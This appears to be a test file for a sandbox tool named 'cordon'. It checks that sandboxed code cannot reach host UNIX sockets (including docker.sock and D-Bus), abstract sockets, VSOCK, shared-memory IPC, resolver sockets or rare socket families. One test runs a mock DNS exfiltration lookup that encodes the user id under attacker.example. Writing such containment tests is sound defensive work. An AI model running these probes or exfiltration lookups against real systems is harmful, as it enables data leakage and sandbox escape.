// Catalog group U (local IPC and sockets) through the cordon CLI with the
// default policy, and in the "network allowed" mode where the entry names it.
import assert from 'node:assert/strict';
import net from 'node:net';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { chmodSync, writeFileSync, rmSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { ERRNO } from '../attacks/build.mjs';
import { entry, project, ran, attacks, pyScript, cordonAsync, PY } from './harness.mjs';

const { EPERM, EACCES, ENOENT } = ERRNO;
const ECONNREFUSED = 111;

function unixServer(path) {
  const s = { hits: 0 };
  s.server = net.createServer((c) => {
    s.hits++;
    c.end('HOST-SECRET\n');
  });
  return new Promise((res, rej) => {
    s.server.once('error', rej);
    s.server.listen(path, () => {
      if (!path.startsWith('\0')) chmodSync(path, 0o777);
      res(s);
    });
  });
}

entry('U1', 'Host pathname UNIX sockets through read-only binds', async () => {
  const p = project();
  // A host socket in the project dir (bound into the sandbox) and one in
  // a read-only-visible system-like location: both reachable by path inside.
  const inW = await unixServer(join(p.W, 'agent.sock'));
  try {
    const py = `import socket,os
for path in (${JSON.stringify(join(p.W, 'agent.sock'))}, '/run/user/%d/bus' % os.getuid(), '/var/run/docker.sock', '/tmp/.X11-unix/X0'):
  try:
    s=socket.socket(socket.AF_UNIX); s.connect(path); print('CONNECTED', path, s.recv(64))
  except OSError as e: print('errno', e.errno, path)`;
    const r = await cordonAsync(['--', '/bin/sh', '-c', `${pyScript(py)}; echo CORDON-RAN`], { cwd: p.W, env: p.env });
    ran(assert, r);
    assert.doesNotMatch(r.stdout, /CONNECTED|HOST-SECRET/);
    // The project's socket exists inside, so the refusal is the socket layer's.
    assert.match(r.stdout, new RegExp(`^errno ${EPERM} ${join(p.W, 'agent.sock')}$`, 'm'));
    assert.equal(inW.hits, 0, 'the host server saw a connection');
  } finally {
    inW.server.close();
    p.cleanup();
  }
});

entry('U2', 'Abstract UNIX sockets when the netns is shared', async () => {
  const name = `\0cordon-canary-${randomBytes(6).toString('hex')}`;
  const srv = await unixServer(name);
  const p = project();
  try {
    const py = `import socket
try:
  s=socket.socket(socket.AF_UNIX); s.connect(${JSON.stringify(name).replace('\\u0000', '\\0')}); print('CONNECTED')
except OSError as e: print('errno', e.errno)`;
    // Default policy and the "network allowed" mode.
    for (const flags of [[], ['--allow-net', 'localhost:1']]) {
      const r = await cordonAsync([...flags, '--', '/bin/sh', '-c', `${pyScript(py)}; echo CORDON-RAN`], { cwd: p.W, env: p.env });
      ran(assert, r);
      assert.match(r.stdout, new RegExp(`errno (${EPERM}|${EACCES}|${ECONNREFUSED})`), r.stdout);
    }
    assert.equal(srv.hits, 0);
  } finally {
    srv.server.close();
    p.cleanup();
  }
});

entry('U3', 'AF_VSOCK to the hypervisor or WSL host', () => {
  const a = attacks();
  assert.equal(a.attack('real').get('socket_vsock'), EPERM);
  assert.equal(a.attack('real', ['--allow-net', 'localhost:1']).get('socket_vsock'), EPERM);
});

entry('U4', 'SysV and POSIX IPC', () => {
  const key = 0x5b00 + (process.pid % 0xff);
  const shm = `/dev/shm/cordon-cat-${process.pid}`;
  const mk = spawnSync(PY, ['-c', `import ctypes
l=ctypes.CDLL(None, use_errno=True)
i=l.shmget(${key}, 4096, 0o1600)
print(i if i >= 0 else -ctypes.get_errno())`], { encoding: 'utf8' });
  const id = Number(mk.stdout.trim());
  assert.ok(id >= 0, `shmget outside failed: ${mk.stdout} ${mk.stderr}`);
  writeFileSync(shm, 'host');
  const p = project();
  try {
    const r = p.sh(
      `${pyScript(`import ctypes
l=ctypes.CDLL(None, use_errno=True)
print('shmget', 0 if l.shmget(${key}, 0, 0) >= 0 else ctypes.get_errno())`)}; ls -A /dev/shm /dev/mqueue 2>/dev/null | grep -c cordon-cat; echo CORDON-RAN`,
    );
    ran(assert, r);
    assert.match(r.stdout, new RegExp(`^shmget ${ENOENT}$`, 'm'));
    assert.match(r.stdout, /^0$/m, 'the host /dev/shm file is visible inside');
  } finally {
    spawnSync(PY, ['-c', `import ctypes; ctypes.CDLL(None).shmctl(${id}, 0, None)`]);
    rmSync(shm, { force: true });
    p.cleanup();
  }
});

entry('U5', 'DNS through host resolver sockets', () => {
  const p = project();
  try {
    const py = `import socket
for path in ('/run/systemd/resolve/io.systemd.Resolve', '/var/run/nscd/socket'):
  try:
    socket.socket(socket.AF_UNIX).connect(path); print('CONNECTED', path)
  except OSError as e: print('errno', e.errno)`;
    const r = p.sh(`getent hosts exfil-$(id -u).attacker.example >/dev/null; echo "getent=$?"; ${pyScript(py)}; echo CORDON-RAN`);
    ran(assert, r);
    assert.match(r.stdout, /^getent=2$/m, 'the name resolved inside');
    assert.doesNotMatch(r.stdout, /CONNECTED/);
    assert.equal((r.stdout.match(new RegExp(`^errno ${EPERM}$`, 'gm')) ?? []).length, 2);
  } finally {
    p.cleanup();
  }
});

entry('U6', 'Netlink and other socket families in proxy mode', () => {
  const got = attacks().attack('real', ['--allow-net', 'localhost:1']);
  const bad = [];
  for (const k of ['socket_vsock', 'socket_packet', 'socket_alg', 'socket_ipx', 'socket_can', 'socket_xdp', 'socket_netlink_audit', 'socket_unix', 'socketpair_dgram']) {
    if (got.get(k) !== EPERM) bad.push(`${k}: ${got.get(k)}`);
  }
  assert.deepEqual(bad, []);
  // What the mode needs stays: TCP/UDP to the in-netns relay, and
  // NETLINK_ROUTE (getaddrinfo), which only sees the sandbox's own netns.
  assert.equal(got.get('socket_inet'), 0);
  assert.equal(got.get('socket_netlink_route'), 0);
});
